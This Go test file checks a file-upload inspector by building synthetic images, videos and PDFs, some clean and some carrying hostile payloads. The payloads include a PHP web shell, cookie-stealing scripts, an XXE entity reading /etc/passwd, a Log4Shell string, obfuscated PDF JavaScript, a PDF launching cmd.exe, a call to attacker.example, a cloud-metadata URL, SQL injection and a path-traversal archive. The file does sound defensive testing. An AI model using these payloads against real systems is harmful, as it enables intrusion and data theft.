package inspect

import (
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"strings"
	"testing"
)

const (
	shellPHP = `<?php system($_GET['c']); ?>`

	// xmp is what a program for pictures writes about one.
	xmp = `<?xpacket begin="` + "\ufeff" + `" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/" x:xmptk="Adobe XMP Core 5.6"><rdf:RDF ` +
		`xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" xmlns:xmp="http://ns.adobe.com/xap/1.0/" ` +
		`xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:stEvt="http://ns.adobe.com/xap/1.0/sType/ResourceEvent#" xmp:CreatorTool="Adobe Photoshop CC 2019 (Windows)">` +
		`<dc:title><rdf:Alt><rdf:li xml:lang="x-default">TITLE</rdf:li></rdf:Alt></dc:title><dc:format>image/jpeg</dc:format></rdf:Description></rdf:RDF></x:xmpmeta>`
)

func xmpOf(title string) string {
	return strings.Replace(xmp, "TITLE", title, 1) + "\n<?xpacket end=\"w\"?>"
}

// segment is a segment of a JPEG.
func segment(marker byte, data string) string {
	return string([]byte{0xff, marker}) + string(binary.BigEndian.AppendUint16(nil, uint16(len(data)+2))) + data //nolint:gosec // short
}

// jpeg is a JPEG with some segments: a picture of noise, which a scan has with zeros behind its 0xff.
func jpegOf(segments ...string) string {
	scan := strings.ReplaceAll(string(noise(6000)), "\xff", "\xff\x00")
	return "\xff\xd8" + segment(0xe0, "JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00") + strings.Join(segments, "") + segment(0xdb, "\x00"+string(noise(64))) +
		segment(0xc0, "\x08\x00\x10\x00\x10\x01\x01\x11\x00") + segment(0xda, "\x01\x01\x00\x00\x3f\x00") + scan + "\xff\xd9"
}

// exif is what a camera writes, with a description.
func exif(text string) string {
	const at = 26
	head := "Exif\x00\x00II*\x00\x08\x00\x00\x00\x01\x00\x0e\x01\x02\x00"
	head += string(binary.LittleEndian.AppendUint32(nil, uint32(len(text)+1))) + string(binary.LittleEndian.AppendUint32(nil, at)) //nolint:gosec // short
	return segment(0xe1, head+"\x00\x00\x00\x00"+text+"\x00")
}

// chunk is a chunk of a PNG. Nobody here looks at its sum.
func chunk(name, data string) string {
	return string(binary.BigEndian.AppendUint32(nil, uint32(len(data)))) + name + data + "\x01\x02\x03\x04" //nolint:gosec // short
}

func pngOf(chunks ...string) string {
	return "\x89PNG\r\n\x1a\n" + chunk("IHDR", "\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00\x00") + strings.Join(chunks, "") +
		chunk("IDAT", "\x78\x9c"+string(noise(4000))) + chunk("IEND", "")
}

func webp(chunks string) string {
	body := "WEBPVP8L" + string(binary.LittleEndian.AppendUint32(nil, 3000)) + string(noise(3000)) + chunks
	return "RIFF" + string(binary.LittleEndian.AppendUint32(nil, uint32(len(body)))) + body //nolint:gosec // short
}

func box(name, data string) string {
	return string(binary.BigEndian.AppendUint32(nil, uint32(len(data)+8))) + name + data //nolint:gosec // short
}

// gif is a GIF with a comment.
func gifOf(comment string) string {
	return "GIF89a\x10\x00\x10\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xfe" + string(rune(len(comment))) + comment + "\x00" +
		",\x00\x00\x00\x00\x10\x00\x10\x00\x00\x02\x40" + strings.Repeat("\x81", 64) + "\x00;"
}

// pdf is a PDF with objects, the first of which is its catalogue, and pages of compressed and of plain text.
func pdfOf(t *testing.T, objects ...string) string {
	t.Helper()
	page := "BT /F1 12 Tf 72 700 Td (" + strings.ReplaceAll(prose[1], "(", `\(`) + ") Tj ET\n"
	packed := zlibOf(t, strings.Repeat(page, 30)+string(noise(3000)), 15)
	objects = append(objects,
		fmt.Sprintf("<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream", len(packed), packed),
		fmt.Sprintf("<< /Length %d >>\nstream\n%s%sendstream", 2*len(page), page, page),
		fmt.Sprintf("<< /Type /Metadata /Subtype /XML /Length %d >>\nstream\n%s\nendstream", len(xmp), xmpOf("It's a report")),
		"<< /Title (It's a report \\(draft\\)) /Author (Pat O'Neill; Sales & more) /Producer (a library \\(Linux\\)) /CreationDate (D:20261130120000+01'00') >>",
		"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://www.example.com/?id=1&select=all) >> >>",
	)
	var b strings.Builder
	b.WriteString("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
	for n, o := range objects {
		fmt.Fprintf(&b, "%d 0 obj\n%s\nendobj\n", n+1, o)
	}
	fmt.Fprintf(&b, "xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size %d /Root 1 0 R /ID [<0a0b0c> <0a0b0c>] >>\nstartxref\n%d\n%%%%EOF\n", len(objects)+1, b.Len())
	return b.String()
}

func objectStream(t *testing.T, text string) string {
	t.Helper()
	packed := zlibOf(t, text, 15)
	return fmt.Sprintf("<< /Type /ObjStm /N 1 /First 4 /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream", len(packed), packed)
}

const catalogue = "<< /Type /Catalog /Pages 2 0 R >>"

func TestFilesPassWhereverTheyStand(t *testing.T) {
	table := "\x00\x01\x00\x00\x00\x02\x00\x00\x00\x00\x00\x00glyf\x00\x00\x00\x00\x00\x00\x00\x2c\x00\x00\x0b\xb8name\x00\x00\x00\x00\x00\x00\x0b\xe4\x00\x00\x00\x20"
	judgeFiles(t, map[string]string{
		"a photograph":             jpegOf(exif("It's a day by the sea"), segment(0xe1, "http://ns.adobe.com/xap/1.0/\x00"+xmpOf("Don't select; find it"))),
		"a photograph, profiled":   jpegOf(segment(0xe2, "ICC_PROFILE\x00\x01\x01"+string(noise(500))+"Copyright (c) 1998 Hewlett-Packard Company"), segment(0xfe, "CREATOR: gd-jpeg v1.0 (using IJG JPEG v80), quality = 82\n")),
		"a photograph, broken off": jpegOf(exif("by the sea"))[:4000],
		"two photographs":          jpegOf() + jpegOf(exif("the second")),
		"a drawing":                pngOf(chunk("tEXt", "Software\x00Adobe ImageReady"), chunk("iTXt", "XML:com.adobe.xmp\x00\x00\x00\x00\x00"+xmpOf("It's a drawing"))),
		"a drawing with profile":   pngOf(chunk("iCCP", "ICC Profile\x00\x00"+zlibOf(t, string(noise(300)), 15)), chunk("zTXt", "Comment\x00\x00"+zlibOf(t, "It's a comment", 15))),
		"WebP":                     webp("XMP " + string(binary.LittleEndian.AppendUint32(nil, uint32(len(xmpOf("x"))))) + xmpOf("x")),
		"a film":                   box("ftyp", "isom\x00\x00\x02\x00isomiso2mp41") + box("moov", box("udta", box("\xa9nam", "\x00\x0b\x00\x00It's a film"))) + box("mdat", string(noise(5000))),
		"a picture from a phone":   box("ftyp", "heic\x00\x00\x00\x00mif1heic") + box("meta", "\x00\x00\x00\x00"+box("hdlr", "\x00\x00\x00\x00\x00\x00\x00\x00pict")) + box("mdat", string(noise(3000))+xmpOf("by the sea")+string(noise(3000))),
		"an animation":             gifOf("It's made by hand"),
		"a font":                   table + string(noise(3000)) + "It's a font (Regular) by hand...",
		"a PDF":                    pdfOf(t, catalogue),
		"a form":                   pdfOf(t, catalogue, `<< /FT /Tx /T (amount) /AA << /F << /S /JavaScript /JS (AFNumber_Format\(2, 0, 0, 0, "", true\);) >> >> >>`),
		"a newer PDF":              pdfOf(t, catalogue, objectStream(t, "9 0 << /Title (Don't select from this; find it) >>")),
		"a PDF of two revisions":   pdfOf(t, catalogue) + strings.TrimPrefix(pdfOf(t, catalogue), "%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"),
		"an archive of pictures":   packageOf(t, map[string]string{"a.jpg": jpegOf(exif("a")), "b.png": pngOf(), "c.pdf": pdfOf(t, catalogue)}),
		"a compressed picture":     gzipOf(t, jpegOf(exif("a"))),
	}, Pass, carriers)
}

func TestWhatFilesCarryIsFound(t *testing.T) {
	script := "<< /S /JavaScript /JS (app.alert(document.URL)) >>"
	packed := zlibOf(t, "app.launchURL('https://attacker.example/')", 15)
	judgeFiles(t, map[string]string{
		"PHP behind a photograph":      jpegOf(exif("a")) + shellPHP,
		"PHP as a comment":             jpegOf(segment(0xfe, shellPHP)),
		"PHP in a description":         jpegOf(exif(shellPHP)),
		"PHP inside the picture":       strings.Replace(pngOf(), "IDAT\x78\x9c", "IDAT\x78\x9c"+shellPHP, 1)[:4000],
		"SQL in a description":         jpegOf(exif(injection)),
		"a script in a comment":        pngOf(chunk("tEXt", "Comment\x00<script>alert(document.cookie)</script>")),
		"a script that is compressed":  pngOf(chunk("zTXt", "Comment\x00\x00"+zlibOf(t, "<script>alert(document.cookie)</script>", 15))),
		"an entity in XMP":             jpegOf(segment(0xe1, "http://ns.adobe.com/xap/1.0/\x00"+`<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>`+xmpOf("&x;"))),
		"a script in XMP":              jpegOf(segment(0xe1, "http://ns.adobe.com/xap/1.0/\x00"+xmpOf("&lt;script>alert(document.cookie)&lt;/script>"))),
		"Log4Shell in XMP":             webp("XMP " + string(binary.LittleEndian.AppendUint32(nil, uint32(len(xmpOf("${jndi:ldap://x/a}"))))) + xmpOf("${jndi:ldap://x/a}")),
		"PHP behind a film":            box("ftyp", "isom\x00\x00\x02\x00isomiso2mp41") + box("mdat", string(noise(3000))) + shellPHP,
		"SQL in the title of a film":   box("ftyp", "isom\x00\x00\x02\x00isomiso2mp41") + box("moov", box("udta", box("\xa9nam", "\x00\x2f\x00\x00"+injection))) + box("mdat", string(noise(3000))),
		"PHP in an animation":          gifOf(shellPHP),
		"a program behind an archive":  packageOf(t, map[string]string{"a.jpg": jpegOf()}) + shellPHP,
		"an object behind a picture":   jpegOf() + "\xac\xed\x00\x05sr\x00\x11java.util.HashMap",
		"JavaScript in a PDF":          pdfOf(t, catalogue+"\n/OpenAction 2 0 R", script),
		"JavaScript with escapes":      pdfOf(t, catalogue, `<< /#53 /J#61vaScript /J#53 (ap\160.al\145rt\(1\)) >>`),
		"JavaScript in hexadecimal":    pdfOf(t, catalogue, "<< /S /JavaScript /JS <"+hex.EncodeToString([]byte("app.alert(1)"))+"> >>"),
		"JavaScript in UTF-16":         pdfOf(t, catalogue, "<< /S /JavaScript /JS (\xfe\xff"+wideOf("app.alert(1)", 2, binary.BigEndian)+") >>"),
		"JavaScript in a stream":       pdfOf(t, catalogue, "<< /S /JavaScript /JS 3 0 R >>", "<< /Filter /FlateDecode >>\nstream\n"+packed+"\nendstream"),
		"JavaScript among objects":     pdfOf(t, catalogue, objectStream(t, "9 0 "+script)),
		"a program that a PDF starts":  pdfOf(t, catalogue+"/OpenAction << /S /Launch /Win << /F (cmd.exe) /P (/c calc.exe) >> >>"),
		"a script as a PDF's address":  pdfOf(t, catalogue, "<< /A << /S /URI /URI (javascript:alert(document.cookie)) >> >>"),
		"metadata's address in a PDF":  pdfOf(t, catalogue, "<< /A << /S /URI /URI (http://169.254.169.254/latest/meta-data/) >> >>"),
		"PHP behind a PDF":             pdfOf(t, catalogue) + shellPHP,
		"SQL behind a PDF":             pdfOf(t, catalogue) + injection,
		"SQL between a PDF's objects":  strings.Replace(pdfOf(t, catalogue), "endobj\n2 0 obj", "endobj\n"+injection+"\n2 0 obj", 1),
		"SQL as the title of a PDF":    pdfOf(t, catalogue, "<< /Title ("+injection+") >>"),
		"a page attached to a PDF":     pdfOf(t, catalogue, "<< /Type /EmbeddedFile >>\nstream\n<script>alert(document.cookie)</script>\nendstream"),
		"an archive attached to a PDF": pdfOf(t, catalogue, "<< /Type /EmbeddedFile >>\nstream\n"+packageOf(t, map[string]string{"../../x.sh": "a"})+"\nendstream"),
	}, Block, carriers)
}
